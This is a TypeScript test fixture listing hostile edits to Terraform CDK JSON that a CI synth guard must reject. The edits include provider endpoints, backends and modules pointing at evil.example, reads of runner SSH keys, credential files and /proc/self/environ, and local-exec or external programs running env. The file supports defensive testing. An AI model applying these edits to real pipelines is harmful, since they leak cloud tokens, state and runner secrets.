/**
 * Hostile edits of the kit's real synthesized JSON: what a pull request's code could write
 * into cdk.tf.json to make a job holding a cloud identity leak the identity, its token, the
 * state or the runner's files, or run code. Each is applied to a copy of a real stack and
 * must be refused by the synth guard with the message given (issue 22 and the review
 * before it; docs/ci.md, Threat model).
 */
import { PROVIDER } from "../../lib/gcp/provider";
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

export interface Hostile {
  readonly what: string;
  /** svc: a service stack (svc-payments-prd); platform: an environment's stack (prd). */
  readonly stack: "svc" | "platform";
  readonly edit: (j: Json) => void;
  readonly refusedWith: string;
}

const first = (o: Json): Json => Object.values(o)[0] as Json;
const token = "${nonsensitive(data.google_client_config.me.access_token)}";

export const HOSTILE: readonly Hostile[] = [
  // Providers and endpoints: a custom endpoint receives the identity's access token.
  {
    what: "a custom endpoint",
    stack: "svc",
    edit: (j) => (j.provider.google[0].container_custom_endpoint = "https://evil.example/"),
    refusedWith: "provider.google[0].container_custom_endpoint: not allowed",
  },
  {
    what: "the provider as an array of objects, with a custom endpoint",
    stack: "svc",
    edit: (j) =>
      (j.provider = [{ google: [{ ...j.provider.google[0], storage_custom_endpoint: "https://evil.example/" }] }]),
    refusedWith: "provider: must be a JSON object",
  },
  {
    what: "a second (aliased) google provider block",
    stack: "svc",
    edit: (j) => j.provider.google.push({ alias: "x", batching: [{ send_after: "1s" }] }),
    refusedWith: "must be an array of exactly one block (no aliases)",
  },
  {
    what: "an access token",
    stack: "svc",
    edit: (j) => (j.provider.google[0].access_token = "x"),
    refusedWith: "provider.google[0].access_token: not allowed",
  },
  {
    what: "impersonation",
    stack: "svc",
    edit: (j) => (j.provider.google[0].impersonate_service_account = "owner@x.iam.gserviceaccount.com"),
    refusedWith: "provider.google[0].impersonate_service_account: not allowed",
  },
  {
    what: "a provider argument computed from a runner file",
    stack: "svc",
    edit: (j) => (j.provider.google[0].project = '${file("/home/runner/.ssh/id_rsa")}'),
    refusedWith: "must be a literal string",
  },
  {
    what: "another provider block",
    stack: "svc",
    edit: (j) => (j.provider.http = [{}]),
    refusedWith: "provider.http: only google may be configured",
  },
  {
    what: "another required provider",
    stack: "svc",
    edit: (j) => (j.terraform.required_providers.external = { source: "hashicorp/external" }),
    refusedWith: "required_providers.external: only google",
  },
  {
    what: "a google provider from elsewhere",
    stack: "svc",
    edit: (j) => (j.terraform.required_providers.google.source = "evil/google"),
    refusedWith: 'only google from their own sources, got "evil/google"',
  },
  {
    what: "another provider version",
    stack: "svc",
    edit: (j) => (j.terraform.required_providers.google.version = "6.49.0"),
    refusedWith: `"6.49.0" is not the locked ${PROVIDER.version}`,
  },
  {
    what: "provider meta / experiments in the terraform block",
    stack: "svc",
    edit: (j) => (j.terraform.provider_meta = { google: { module_name: "x" } }),
    refusedWith: "terraform.provider_meta: not allowed",
  },
  // Types: an unknown prefix installs hashicorp/<prefix>; data sources read tokens and state.
  {
    what: "an http data source, in the array form of `data`",
    stack: "svc",
    edit: (j) => (j.data = [{ http: { x: { url: "https://evil.example/" } } }]),
    refusedWith: "data: must be a JSON object",
  },
  {
    what: "an external data source (runs a program)",
    stack: "svc",
    edit: (j) => (j.data = { external: { x: { program: ["sh", "-c", "env"] } } }),
    refusedWith: "data.external: not a data source type the kit uses",
  },
  {
    what: "the client config data source (the identity's access token)",
    stack: "svc",
    edit: (j) => (j.data = { google_client_config: { me: {} } }),
    refusedWith: "data.google_client_config: not a data source type the kit uses",
  },
  {
    what: "another state object's content",
    stack: "svc",
    edit: (j) =>
      (j.data = { google_storage_bucket_object_content: { s: { bucket: "b", name: "stacks/prd/default.tfstate" } } }),
    refusedWith: "data.google_storage_bucket_object_content: not a data source type the kit uses",
  },
  {
    what: "remote state",
    stack: "svc",
    edit: (j) => (j.data = { terraform_remote_state: { s: { backend: "gcs", config: { bucket: "b" } } } }),
    refusedWith: "data.terraform_remote_state: not a data source type the kit uses",
  },
  {
    what: "a resource type the kit does not use",
    stack: "svc",
    edit: (j) => (j.resource.terraform_data = { x: { provisioner: [{ "local-exec": { command: "env" } }] } }),
    refusedWith: "resource.terraform_data: not a resource type the kit uses",
  },
  {
    what: "a resource type as an array of instances",
    stack: "svc",
    edit: (j) => (j.resource.google_project = Object.values(j.resource.google_project)),
    refusedWith: "resource.google_project: must be a JSON object",
  },
  // Blocks the kit never emits.
  {
    what: "a check block with a nested http data source",
    stack: "svc",
    edit: (j) => (j.check = { c: { data: { http: { x: { url: "https://evil.example/" } } }, assert: [] } }),
    refusedWith: "(top level).check: not allowed",
  },
  {
    what: "a removed block with a provisioner",
    stack: "svc",
    edit: (j) =>
      (j.removed = [
        { from: "google_project.x", lifecycle: { destroy: true }, provisioner: [{ "local-exec": { command: "env" } }] },
      ]),
    refusedWith: "(top level).removed: not allowed",
  },
  {
    what: "an import block",
    stack: "svc",
    edit: (j) => (j.import = [{ to: "google_project.x", id: "victim-project" }]),
    refusedWith: "(top level).import: not allowed",
  },
  {
    what: "a moved block",
    stack: "svc",
    edit: (j) => (j.moved = [{ from: "google_project.a", to: "google_project.b" }]),
    refusedWith: "(top level).moved: not allowed",
  },
  {
    what: "a module",
    stack: "svc",
    edit: (j) => (j.module = { m: { source: "git::https://evil.example/m" } }),
    refusedWith: "(top level).module: not allowed",
  },
  {
    what: "locals",
    stack: "svc",
    edit: (j) => (j.locals = { t: token }),
    refusedWith: "(top level).locals: not allowed",
  },
  // Meta-arguments: provisioners, conditions whose messages print values, counts, providers.
  {
    what: "a provisioner",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).provisioner = [{ "local-exec": { command: "curl" } }]),
    refusedWith: ".provisioner: not an argument of google_project",
  },
  {
    what: "a postcondition that prints a secret in its error message",
    stack: "svc",
    edit: (j) =>
      (first(j.resource.google_redis_instance).lifecycle = {
        postcondition: [{ condition: false, error_message: "${nonsensitive(self.auth_string)}" }],
      }),
    refusedWith: ".lifecycle.postcondition: not allowed",
  },
  {
    what: "count, for_each and a provider reference",
    stack: "svc",
    edit: (j) =>
      Object.assign(first(j.resource.google_project), { count: 2, for_each: "${toset([])}", provider: "google.x" }),
    refusedWith: ".count: not an argument of google_project",
  },
  {
    what: "a dynamic block inside a nested block",
    stack: "platform",
    edit: (j) => (first(j.resource.google_container_cluster).addons_config.dynamic = { x: {} }),
    refusedWith: "addons_config.dynamic: not allowed",
  },
  {
    what: "depends_on with an expression",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).depends_on = ['${file("/etc/passwd")}']),
    refusedWith: ".depends_on: must be a list of plain references",
  },
  // Expressions: functions that read the runner's files or environment, or remove sensitivity.
  {
    what: "file() of a runner path in a label",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).labels.x = '${file("/home/runner/work/_temp/gha-creds.json")}'),
    refusedWith: "function file() is not allowed",
  },
  {
    what: "a template in a map key",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).labels['${templatefile("/proc/self/environ", {})}'] = "x"),
    refusedWith: "function templatefile() is not allowed",
  },
  {
    what: "a function hidden in a nested string",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).name = '${upper("${pathexpand("~/.config")}")}'),
    refusedWith: "function pathexpand() is not allowed",
  },
  {
    what: "a provider-defined function",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).name = '${provider::google::region_from_zone("x")}'),
    refusedWith: "function provider::google::region_from_zone() is not allowed",
  },
  {
    what: "a template directive",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).name = "%{ for x in [1] }a%{ endfor }"),
    refusedWith: "template directives",
  },
  {
    what: "a reference to the runner's paths",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).name = "${path.cwd}"),
    refusedWith: "reference path.cwd is not allowed",
  },
  {
    what: "a reference to a data source the kit does not use",
    stack: "svc",
    edit: (j) => (first(j.resource.google_project).name = "${data.google_client_config.me.access_token}"),
    refusedWith: "reference data.google_client_config.me.access_token is not allowed",
  },
  // Outputs are printed in the plan's log.
  {
    what: "an output that prints the identity's token",
    stack: "svc",
    edit: (j) => (j.output.t = { value: token }),
    refusedWith: "output.t: not an output the kit defines",
  },
  {
    what: "a kit output that prints the Redis AUTH string",
    stack: "svc",
    edit: (j) => (j.output.project_id.value = "${nonsensitive(google_redis_instance.redis_7140560C.auth_string)}"),
    refusedWith: "function nonsensitive() is not allowed",
  },
  {
    what: "a kit output with another reference",
    stack: "svc",
    edit: (j) => (j.output.project_id.value = "${google_redis_instance.r.auth_string}"),
    refusedWith: "an output may only be a literal or one of google_project.project_id",
  },
  {
    what: "a sensitive kit output made plain",
    stack: "platform",
    edit: (j) => (j.output.cluster_endpoint.sensitive = false),
    refusedWith: "output.cluster_endpoint.sensitive: must stay true",
  },
  {
    what: "a variable that is not sensitive, with a default and a validation",
    stack: "svc",
    edit: (j) => (j.variable = { x_password: { type: "string", default: '${file("/etc/hostname")}', validation: [] } }),
    refusedWith: "variable.x_password.default: not allowed",
  },
  // Backend: state elsewhere, or credentials for it.
  {
    what: "another backend",
    stack: "svc",
    edit: (j) => (j.terraform.backend = { http: { address: "https://evil.example/" } }),
    refusedWith: "must be exactly one of gcs",
  },
  {
    what: "backend impersonation",
    stack: "svc",
    edit: (j) => (j.terraform.backend.gcs.impersonate_service_account = "x"),
    refusedWith: "backend.gcs.impersonate_service_account: not allowed",
  },
  {
    what: "another stack's state",
    stack: "svc",
    edit: (j) => (j.terraform.backend.gcs.prefix = "stacks/svc-payments-dev"),
    refusedWith: 'must be "stacks/svc-payments-prd"',
  },
];
